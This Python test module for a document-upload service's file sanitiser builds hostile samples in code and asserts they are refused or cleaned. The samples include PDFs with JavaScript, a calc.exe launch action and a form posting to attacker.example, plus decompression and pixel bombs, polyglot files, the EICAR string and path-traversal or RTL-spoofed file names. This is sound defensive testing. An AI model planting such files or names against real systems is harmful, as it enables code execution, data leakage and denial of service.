"""Files made to break, to fill or to mislead: none is taken that isn't written anew, and none costs what isn't bounded.

The attacks are made here, so that no file of theirs lies in the repository.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image, ImageDraw

from app.adapters.bounded_papers import BoundedPapers, PaperBounds
from app.demo.papers import paper
from app.domain.paper_inspection import InspectionOrder, PaperRefusal
from app.ports.paper_work import PaperWorkError, Work
from tests.play.expected_problem import problem
from tests.play.filing_case import FilingCase
from tests.play.running_service import RunningService

Case = Callable[..., FilingCase]
JPEG = paper("specimen", ["image/jpeg"], 0).content
PNG = paper("specimen", ["image/png"], 0).content
PDF = paper("specimen", ["application/pdf"], 0).content
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# Of any process of the service, whatever it is sent; the children that read papers have their own bound of 1 GiB.
MOST_MEMORY = 600 << 20


@pytest.fixture(scope="module")
def draft(service: RunningService, client: dict[str, str]) -> FilingCase:
    case = FilingCase(service, client)
    case.begin()
    return case


def small(form: str, **options: Any) -> bytes:
    image = Image.new("RGB", (160, 120), (240, 244, 248))
    ImageDraw.Draw(image).text((10, 40), "SPECIMEN", fill=(20, 30, 90))
    file = io.BytesIO()
    image.save(file, form, **options)
    return file.getvalue()


def zipped(name: str = "a.txt", content: bytes = b"secret words") -> bytes:
    file = io.BytesIO()
    way = zipfile.ZIP_DEFLATED if len(content) > 1000 else zipfile.ZIP_STORED
    with zipfile.ZipFile(file, "w", way) as archive:
        archive.writestr(name, content)
    return file.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, depth: int, colour: int, row_bytes: int, rows: int) -> bytes:
    """A PNG of nothing, as small as it packs."""
    packer = zlib.compressobj(1)
    row = bytes(row_bytes + 1) * 64
    packed = b"".join(packer.compress(row) for _ in range(rows // 64)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def pdf_with(change: Callable[[pikepdf.Pdf], None], **saving: Any) -> bytes:
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as document:
        change(document)
        document.save(file, **saving)
    return file.getvalue()


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def _page_action(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _dynamic_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=pikepdf.Array())


def _rich_media(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def _form_that_sends(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://attacker.example/")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def _unchanged(document: pikepdf.Pdf) -> None:
    pass


def _bomb(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(b" " * (300 << 20), 1)
    document.pages[0].Contents = pikepdf.Stream(document, packed, Filter=pikepdf.Name.FlateDecode)


def _nested_bomb(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(zlib.compress(b" " * (64 << 20)))
    twice = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].Contents = pikepdf.Stream(document, packed, Filter=twice)


def _huge_picture(document: pikepdf.Pdf) -> None:
    picture = pikepdf.Stream(
        document, b"\0", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=50_000, Height=50_000,
        ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=1,
    )  # fmt: skip
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))


def _many_pages(document: pikepdf.Pdf) -> None:
    for _ in range(40):
        document.pages.append(document.pages[0])


_LOCKED = pikepdf.Encryption(owner="o", user="u")
_RESTRICTED = pikepdf.Encryption(owner="o", user="")

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "a script that is a picture": (lambda: b"GIF89a/*" + bytes(64) + b"*/=1;alert(1)//", "paper_format_not_taken"),
    "a page before a document": (lambda: b"<html><script>1</script>" + PDF, "paper_format_unknown"),
    "an archive before a picture": (lambda: zipped() + PNG, "paper_format_not_taken"),
    "a vector picture": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "paper_format_unknown"),
    "a test virus": (lambda: EICAR, "paper_format_unknown"),
    "an archive that grows": (lambda: zipped("word/document.xml", bytes(64 << 20)), "paper_format_not_taken"),
    "a format of scanners": (lambda: small("TIFF"), "paper_format_not_taken"),
    "a broken one of those": (lambda: b"II*\x00" + b"\xff" * 64, "paper_format_not_taken"),
    "too many pixels to come": (lambda: png_of(50_000, 50_000, 1, 0, 6250, 640), "paper_too_many_pixels"),
    "too long a side": (lambda: png_of(40_000, 64, 1, 0, 5000, 64), "paper_too_many_pixels"),
    "fewer lines than said": (lambda: png_of(3000, 3000, 8, 0, 3000, 640), "paper_damaged"),
    "half a photo": (lambda: JPEG[: len(JPEG) // 2], "paper_damaged"),
    "half a drawing": (lambda: PNG[: len(PNG) // 2], "paper_damaged"),
    "half a document": (lambda: PDF[: len(PDF) // 2], "paper_damaged"),
    "the beginning of a document": (lambda: b"%PDF-1.7\n", "paper_damaged"),
    "a document that is an archive": (lambda: PDF + b"%" + b"x" * 4096 + zipped(), "paper_damaged"),
    "a script in a document": (lambda: pdf_with(_script), "paper_pdf_active"),
    "a program to launch": (lambda: pdf_with(_launch), "paper_pdf_active"),
    "a page that acts": (lambda: pdf_with(_page_action), "paper_pdf_active"),
    "a file in a document": (lambda: pdf_with(_attachment), "paper_pdf_active"),
    "a dynamic form": (lambda: pdf_with(_dynamic_form), "paper_pdf_active"),
    "a player": (lambda: pdf_with(_rich_media), "paper_pdf_active"),
    "a form that sends": (lambda: pdf_with(_form_that_sends), "paper_pdf_active"),
    "hidden in packed objects": (
        lambda: pdf_with(_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "paper_pdf_active",
    ),
    "a password": (lambda: pdf_with(_unchanged, encryption=_LOCKED), "paper_pdf_protected"),
    "restrictions": (lambda: pdf_with(_unchanged, encryption=_RESTRICTED), "paper_pdf_protected"),
    "a page that grows": (lambda: pdf_with(_bomb), "paper_too_costly"),
    "a page that grows twice": (
        lambda: pdf_with(_nested_bomb, stream_decode_level=pikepdf.StreamDecodeLevel.none),
        "paper_too_costly",
    ),
    "a huge picture in a document": (lambda: pdf_with(_huge_picture), "paper_too_many_pixels"),
    "a book": (lambda: pdf_with(_many_pages), "paper_too_many_pages"),
}


@pytest.mark.parametrize("attack", REFUSED)
def test_what_can_not_be_a_paper_is_refused_with_its_reason(draft: FilingCase, attack: str) -> None:
    made, code = REFUSED[attack]

    refusal = problem(draft.upload("other", "/subject", made()), 422, "material-unreadable")

    (error,) = refusal["errors"]
    assert (error["pointer"], error["code"]) == ("/file", code)
    assert error["message"] and error["remedy"] and error["rule"] and error["source"]


def with_place(content: bytes = b"", **more: Any) -> bytes:
    """A photo that says where and when it was taken, in every way a photo can."""
    image = Image.open(io.BytesIO(content or JPEG))
    exif = image.getexif()
    exif[0x010E], exif[0x0112] = "secret-description", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (39.0, 54.0, 20.0), 3: "E", 4: (116.0, 23.0, 29.0), 29: "2026:03:02"})
    file = io.BytesIO()
    packet = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>secret-packet</x:xmpmeta>"
    image.save(file, "JPEG", quality=90, exif=exif, xmp=packet, comment=b"secret-comment", **more)
    return file.getvalue()


def _with_words(content: bytes) -> bytes:
    return content[:33] + chunk(b"tEXt", b"Author\0secret-author") + content[33:]


def _with_author(document: pikepdf.Pdf) -> None:
    with document.open_metadata() as packet:
        packet["dc:creator"] = ["secret-author"]
    document.docinfo["/Author"] = "secret-author"
    photo = pikepdf.Stream(
        document, with_place(small("JPEG")), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=160,
        Height=120, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode,
    )  # fmt: skip
    document.pages[0].Resources.XObject = pikepdf.Dictionary(Im0=photo)
    document.pages[0].contents_add(b"q 200 0 0 150 72 72 cm /Im0 Do Q")


TAKEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "a photo that is an archive": (lambda: JPEG + zipped(), "image/jpeg"),
    "a drawing with a page behind it": (lambda: PNG + b"<html><script>secret</script>", "image/png"),
    "a photo with its place": (with_place, "image/jpeg"),
    "a drawing with words": (lambda: _with_words(PNG), "image/png"),
    "a document with its author": (lambda: pdf_with(_with_author), "application/pdf"),
    "a test virus behind a photo": (lambda: JPEG + EICAR, "image/jpeg"),
}


@pytest.mark.parametrize("attack", TAKEN)
async def test_what_is_written_anew_has_nothing_left_of_what_was_hidden(
    looking: BoundedPapers, draft: FilingCase, attack: str
) -> None:
    made, media_type = TAKEN[attack]
    content = made()

    added = draft.app.ok(draft.upload("other", "/subject", content))
    clean = (await looked_into(looking, content))["content"]

    assert (added["media_type"], added["bytes"]) == (media_type, len(content))
    for hidden in (b"secret", b"Exif", b"adobe", b"PK\x03\x04", b"<script", EICAR, b"tEXt", b"iCCP", b"ICC_PROFILE"):
        assert hidden not in clean
    shown = draft.app.get(f"/v1/materials/{added['id']}/content")
    assert shown.status_code == 200
    assert b"secret" not in shown.content


async def test_a_photo_is_turned_as_it_says_before_that_is_forgotten(looking: BoundedPapers) -> None:
    clean = (await looked_into(looking, with_place(small("JPEG"))))["content"]

    with Image.open(io.BytesIO(clean)) as image:
        assert image.size == (120, 160)
        assert not image.getexif()
        assert "icc_profile" not in image.info


async def test_a_document_keeps_its_picture_and_no_author(looking: BoundedPapers) -> None:
    said = await looked_into(looking, pdf_with(_with_author))

    with pikepdf.open(io.BytesIO(said["content"])) as document:
        assert "/Metadata" not in document.Root
        assert "/Info" not in document.trailer
        photo = document.pages[0].Resources.XObject.Im0.read_raw_bytes()
    assert b"secret" not in photo
    assert Image.open(io.BytesIO(photo)).size == (160, 120)


@pytest.mark.parametrize("mode", ["CMYK", "L", "1", "P", "LA", "RGBA", "I;16"])
async def test_every_way_of_writing_colour_is_read(looking: BoundedPapers, mode: str) -> None:
    plain = Image.open(io.BytesIO(small("PNG")))
    image = plain.convert("I;16") if mode == "I;16" else plain.convert("RGBA" if mode == "LA" else "RGB").convert(mode)
    file = io.BytesIO()
    image.save(file, "JPEG" if mode == "CMYK" else "PNG")

    said = await looked_into(looking, file.getvalue())

    assert Image.open(io.BytesIO(said["content"])).mode == "RGB"


# --- mutations

ORDER = InspectionOrder(("image/jpeg", "image/png", "application/pdf"), 20, 50_000_000, 16_000, 4096)


@pytest.fixture(scope="module")
async def looking() -> Any:
    bounded = BoundedPapers(PaperBounds())
    yield bounded
    await bounded.close()


async def looked_into(looking: BoundedPapers, content: bytes) -> dict[str, Any]:
    async def file() -> Any:
        yield content

    said: dict[str, Any] = await looking.run(Work.INSPECT, file(), ORDER)
    return said


def mutated(chance: random.Random, content: bytes) -> bytes:
    changed = bytearray(content)
    for _ in range(chance.choice((1, 1, 3, 12))):
        at = chance.randrange(8, len(changed))
        way = chance.randrange(5)
        if way == 0:
            changed[at] = chance.randrange(256)
        elif way == 1:
            changed[at : at + 4] = chance.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff"))
        elif way == 2:
            del changed[at : at + chance.randrange(1, 40)]
        elif way == 3:
            changed[at:at] = changed[at : at + chance.randrange(1, 60)]
        else:
            del changed[max(at, 16) :]
    return bytes(changed)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "PDF"])
async def test_no_mutation_of_a_file_gets_past_unread(looking: BoundedPapers, form: str) -> None:
    chance, content = random.Random(20260302), PDF if form == "PDF" else small(form)
    known = {one.value for one in PaperRefusal}
    refused = 0
    for _ in range(60):
        try:
            said = await looked_into(looking, mutated(chance, content))
        except PaperWorkError:
            refused += 1
            continue
        if "refused" in said:
            assert said["refused"] in known
            refused += 1
        elif form == "PDF":
            pikepdf.open(io.BytesIO(said["content"])).close()
        else:
            Image.open(io.BytesIO(said["content"])).load()
    assert refused > 10


# --- names, and what it all cost


@pytest.mark.parametrize(
    "name", ["../../../../etc/cron.d/x", "a\x00.png", "gpj.\u202egnp.exe", "x" * 10_000, "con.png", "a/b\\c.png", "%00"]
)
def test_no_name_of_a_file_means_or_leaves_anything(service: RunningService, draft: FilingCase, name: str) -> None:
    files = {"file": (name, small("PNG"), "image/png")}

    answer = draft.app.call("POST", f"{draft.path}/materials", data={"kind": "other", "for": "/subject"}, files=files)

    assert answer.status_code in (201, 400)
    assert "cron" not in answer.text and "\u202e" not in answer.text
    stored = [one.name for one in Path(service.folder, "data", "objects").rglob("*") if one.is_file()]
    assert all(one.startswith(("mat_", "upl_", "ren_", "readiness")) or one.isascii() for one in stored)


def processes_of(parent: int) -> Iterator[int]:
    for status in Path("/proc").glob("[0-9]*/stat"):
        try:
            pid, above = int(status.parent.name), int(status.read_text().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            continue
        if above == parent:
            yield pid
            yield from processes_of(pid)


def most_memory(pid: int) -> int:
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next((int(line.split()[1]) * 1024 for line in lines if line.startswith("VmHWM")), 0)


def test_after_all_this_the_service_is_well_and_no_process_grew(service: RunningService, draft: FilingCase) -> None:
    grown = png_of(7040, 7040, 16, 6, 7040 * 8, 7040)
    answer = draft.upload("other", "/subject", grown)

    assert answer.status_code in (201, 422)
    assert max(map(most_memory, processes_of(service.pid))) < MOST_MEMORY
    assert service.http.get("/readyz").status_code == 200
